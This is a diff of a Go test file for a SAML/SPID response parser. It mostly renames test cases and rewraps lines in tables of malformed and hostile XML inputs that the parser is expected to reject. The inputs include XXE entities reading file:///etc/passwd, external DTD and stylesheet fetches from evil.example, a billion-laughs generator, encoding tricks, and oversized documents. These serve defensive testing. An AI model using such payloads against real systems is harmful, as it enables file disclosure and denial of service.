@@ -20,7 +20,8 @@ func suffixed(suffix string) forgery {
 	return written(func(xml string) string { return xml + suffix })
 }
 
-// Documents that readers take for different ones, or ask for more than is there.
+// Documents that readers can understand in different ways, or that refer to
+// external content.
 var documentAttacks = []attack{
 	{"a declaration", prefixed(`<?xml version="1.0" encoding="UTF-8"?>` + "\n"), ""},
 	{"a comment before and after", written(func(xml string) string { return "<!-- a -->" + xml + "<!-- b -->\n" }), ""},
@@ -36,8 +37,8 @@ var documentAttacks = []attack{
 		return `<?xml version="1.0" encoding="UTF-7"?>` + strings.NewReplacer("<", "+ADw-", ">", "+AD4-").Replace(xml)
 	}), spid.ReasonTooLarge},
 	{"declared as UTF-16", prefixed(`<?xml version="1.0" encoding="UTF-16"?>`), spid.ReasonNotWellFormed},
-	{"written in UTF-16, big end first", written(func(xml string) string { return inUTF16(xml, 1) }), spid.ReasonNotWellFormed},
-	{"written in UTF-16, little end first", written(func(xml string) string { return inUTF16(xml, 0) }), spid.ReasonNotWellFormed},
+	{"written in UTF-16, big-endian", written(func(xml string) string { return inUTF16(xml, 1) }), spid.ReasonNotWellFormed},
+	{"written in UTF-16, little-endian", written(func(xml string) string { return inUTF16(xml, 0) }), spid.ReasonNotWellFormed},
 	{"written in EBCDIC", written(func(string) string { return "\x4c\x6f\xa7\x94\x93" }), spid.ReasonNotWellFormed},
 	{"NUL at the end", suffixed("\x00"), spid.ReasonNotWellFormed},
 	{"NUL in a value", rewritten(">TINIT-", ">TINIT-\x00"), spid.ReasonNotWellFormed},
@@ -46,16 +47,17 @@ var documentAttacks = []attack{
 	{"bytes that are not UTF-8", rewritten(">TINIT-", ">TINIT-\xff"), spid.ReasonNotWellFormed},
 	{"an overlong letter", rewritten(">TINIT-", ">\xc1\x94INIT-"), spid.ReasonNotWellFormed},
 	{"an overlong bracket", rewritten("</saml:NameID>", "\xc0\xbc/saml:NameID>"), spid.ReasonNotWellFormed},
-	{"half of a surrogate", rewritten(">TINIT-", ">TINIT-\xed\xa0\x80"), spid.ReasonNotWellFormed},
+	{"half of a surrogate pair", rewritten(">TINIT-", ">TINIT-\xed\xa0\x80"), spid.ReasonNotWellFormed},
 	{"a document type", prefixed("<!DOCTYPE Response>"), spid.ReasonDoctype},
-	{"a document type elsewhere", prefixed(`<!DOCTYPE r SYSTEM "https://evil.example/r.dtd">`), spid.ReasonDoctype},
-	{"a document type that is public", prefixed(`<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "https://evil.example/r.dtd">`), spid.ReasonDoctype},
+	{"an external document type", prefixed(`<!DOCTYPE r SYSTEM "https://evil.example/r.dtd">`), spid.ReasonDoctype},
+	{"a public document type",
+		prefixed(`<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "https://evil.example/r.dtd">`), spid.ReasonDoctype},
 	{"a document type in lower case", prefixed("<!doctype r>"), spid.ReasonDoctype},
 	{"a document type inside", rewritten("<saml:Subject>", "<!DOCTYPE r><saml:Subject>"), spid.ReasonDoctype},
 	{"a document type that makes attributes IDs", prefixed(`<!DOCTYPE r [<!ATTLIST saml:Subject id ID #IMPLIED>]>`), spid.ReasonDoctype},
 	{"an external entity", prefixed(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`), spid.ReasonDoctype},
 	{"a parameter entity", prefixed(`<!DOCTYPE r [<!ENTITY % x SYSTEM "https://evil.example/x"> %x;]>`), spid.ReasonDoctype},
-	{"a billion laughs", prefixed(laughs()), spid.ReasonDoctype},
+	{"the billion laughs attack", prefixed(billionLaughs()), spid.ReasonDoctype},
 	{"a stylesheet", prefixed(`<?xml-stylesheet href="https://evil.example/x.xsl"?>`), spid.ReasonDoctype},
 	{"two declarations", prefixed(`<?xml version="1.0"?><?xml version="1.0"?>`), spid.ReasonDoctype},
 	{"a declaration after a space", prefixed(` <?xml version="1.0"?>`), spid.ReasonDoctype},
@@ -69,26 +71,27 @@ var documentAttacks = []attack{
 	{"two documents", written(func(xml string) string { return xml + xml }), spid.ReasonNotWellFormed},
 	{"text before", prefixed("x"), spid.ReasonNotWellFormed},
 	{"text after", suffixed("x"), spid.ReasonNotWellFormed},
-	{"an end too many", suffixed("</samlp:Response>"), spid.ReasonNotWellFormed},
-	{"ends exchanged", rewritten("</saml:NameID>", "</saml:Subject>"), spid.ReasonNotWellFormed},
+	{"one end tag too many", suffixed("</samlp:Response>"), spid.ReasonNotWellFormed},
+	{"end tags swapped", rewritten("</saml:NameID>", "</saml:Subject>"), spid.ReasonNotWellFormed},
 	{"an attribute without quotes", rewritten(`Version="2.0"`, "Version=2.0"), spid.ReasonNotWellFormed},
 	{"an attribute without a value", rewritten(`Version="2.0"`, "Version"), spid.ReasonNotWellFormed},
 	{"an attribute twice", rewritten(`Version="2.0"`, `Version="2.0" Version="2.0"`), spid.ReasonNotWellFormed},
 	{"a bracket in an attribute", rewritten(`Version="2.0"`, `Version="2.0" Consent="<"`), spid.ReasonNotWellFormed},
 	{"an end of CDATA in text", rewritten(">TINIT-", ">]]>TINIT-"), spid.ReasonNotWellFormed},
 	{"a comment with two dashes", rewritten(">TINIT-", "><!-- -- -->TINIT-"), spid.ReasonNotWellFormed},
-	{"quotes and order of attributes", rewritten(`Version="2.0"`, `Version='2.0'`), ""},
+	{"single quotes", rewritten(`Version="2.0"`, `Version='2.0'`), ""},
 	{"HTML", written(func(string) string { return "<html><body>Accesso</body></html>" }), spid.ReasonNotAResponse},
 	{"JSON", written(func(string) string { return `{"Response":{}}` }), spid.ReasonNotWellFormed},
 	{"nothing", written(func(string) string { return "" }), spid.ReasonNotWellFormed},
 
-	{"in lines", posted(func(field string) string { return field[:76] + "\r\n" + field[76:] + "\n" }), ""},
-	{"with spaces, as a plus is read in a query", posted(func(field string) string { return strings.Replace(field, "A", " ", 1) }), spid.ReasonNotBase64},
+	{"in several lines", posted(func(field string) string { return field[:76] + "\r\n" + field[76:] + "\n" }), ""},
+	{"with a space, as a plus sign is decoded in a query",
+		posted(func(field string) string { return strings.Replace(field, "A", " ", 1) }), spid.ReasonNotBase64},
 	{"no field", posted(func(string) string { return "" }), spid.ReasonNotWellFormed},
 	{"not in base64", posted(unpack), spid.ReasonNotBase64},
 	{"in base64 for URLs", posted(strings.NewReplacer("+", "-", "/", "_").Replace), spid.ReasonNotBase64},
-	{"in base64 without its end", posted(func(field string) string { return field[:len(field)-1] }), spid.ReasonNotBase64},
-	{"in base64 with an end inside", posted(func(field string) string { return "QQ==" + field }), spid.ReasonNotBase64},
+	{"in base64, cut", posted(func(field string) string { return field[:len(field)-1] }), spid.ReasonNotBase64},
+	{"in base64 with padding inside", posted(func(field string) string { return "QQ==" + field }), spid.ReasonNotBase64},
 	{"in base64 twice", posted(pack), spid.ReasonTooLarge},
 	{"in hexadecimal", written(func(xml string) string { return hex.EncodeToString([]byte(xml)) }), spid.ReasonTooLarge},
 	{"encoded for a URL", posted(func(field string) string { return url.QueryEscape(field + "=") }), spid.ReasonNotBase64},
@@ -106,7 +109,7 @@ func inUTF16(s string, bigEnd int) string {
 	return b.String()
 }
 
-func laughs() string {
+func billionLaughs() string {
 	var b strings.Builder
 	b.WriteString(`<!DOCTYPE r [<!ENTITY l0 "ha">`)
 	for i := range 9 {
@@ -125,8 +128,8 @@ func deflated(s string) string {
 	return b.String()
 }
 
-// sizeAttacks are genuine answers blown up to no purpose but ours to suffer.
-// TestBounds measures what they cost.
+// sizeAttacks are genuine answers made very large. TestBounds measures their
+// cost.
 func sizeAttacks() []attack {
 	const to = "<saml:Subject>"
 	many := func(n int, write func(i int) string) string {
@@ -143,14 +146,20 @@ func sizeAttacks() []attack {
 		{"many elements", rewritten(to, to+many(2000, same("<saml:NameID/>"))), spid.ReasonTooLarge},
 		{"many elements, the shortest", rewritten(to, to+many(20_000, same("<a/>"))), spid.ReasonTooLarge},
 		{"many comments", rewritten(to, to+many(12_000, same("<!---->"))), spid.ReasonTooLarge},
-		{"many attributes", rewritten(to, "<saml:Subject"+many(200, func(i int) string { return fmt.Sprintf(` a%d=""`, i) })+">"), spid.ReasonTooLarge},
-		{"many attributes, all that fit", rewritten(to, "<saml:Subject"+many(8_000, func(i int) string { return fmt.Sprintf(` a%d=""`, i) })+">"), spid.ReasonTooLarge},
-		{"many namespaces", rewritten(to, "<saml:Subject"+many(2000, func(i int) string { return fmt.Sprintf(` xmlns:n%d="urn:n"`, i) })+">"), spid.ReasonTooLarge},
+		{"many attributes",
+			rewritten(to, "<saml:Subject"+many(200, func(i int) string { return fmt.Sprintf(` a%d=""`, i) })+">"), spid.ReasonTooLarge},
+		{"many attributes, all that fit",
+			rewritten(to, "<saml:Subject"+many(8_000, func(i int) string { return fmt.Sprintf(` a%d=""`, i) })+">"), spid.ReasonTooLarge},
+		{"many namespaces",
+			rewritten(to, "<saml:Subject"+many(2000, func(i int) string {
+				return fmt.Sprintf(` xmlns:n%d="urn:n"`, i)
+			})+">"), spid.ReasonTooLarge},
 		{"deep", rewritten(to, many(200, same("<saml:Subject>"))+many(199, same("</saml:Subject>"))), spid.ReasonTooLarge},
 		{"deep, never closed", rewritten(to, many(6_000, same("<saml:Subject>"))), spid.ReasonTooLarge},
 		{"a long name", rewritten(to, to+"<saml:"+strings.Repeat("a", 60_000)+"/>"), spid.ReasonTooLarge},
 		{"a long value", rewritten(">TINIT-", ">"+strings.Repeat("A", 60_000)), spid.ReasonTooLarge},
-		{"a long value of the response", rewritten("<samlp:Response", `<samlp:Response Consent="`+strings.Repeat("A", 60_000)+`"`), spid.ReasonTooLarge},
+		{"a long value of the response",
+			rewritten("<samlp:Response", `<samlp:Response Consent="`+strings.Repeat("A", 60_000)+`"`), spid.ReasonTooLarge},
 		{"a long comment", rewritten(to, "<!--"+strings.Repeat("A", 60_000)+"-->"+to), spid.ReasonTooLarge},
 		{"a long name that fits", rewritten(to, to+"<saml:"+strings.Repeat("a", 8_000)+"/>"), spid.ReasonUnexpectedElement},
 		{"a name that is too long", rewritten(to, to+"<saml:"+strings.Repeat("a", 9_000)+"/>"), spid.ReasonTooLarge},
@@ -160,11 +169,11 @@ func sizeAttacks() []attack {
 		{"many attributes, on many elements", rewritten(to, many(20, func(i int) string {
 			return "<saml:NameID" + many(19, func(i int) string { return fmt.Sprintf(` a%d=""`, i) }) + "/>"
 		})+to), spid.ReasonTooLarge},
-		{"much space", rewritten(to, strings.Repeat("\n", 60_000)+to), spid.ReasonTooLarge},
+		{"many line breaks", rewritten(to, strings.Repeat("\n", 60_000)+to), spid.ReasonTooLarge},
 	}
 }
 
-// truncationAttacks are genuine answers cut short at every 64th byte.
+// truncationAttacks are genuine answers cut at every 64th byte.
 func truncationAttacks() []attack {
 	var attacks []attack
 	for n := 0; n < 6000; n += 64 {
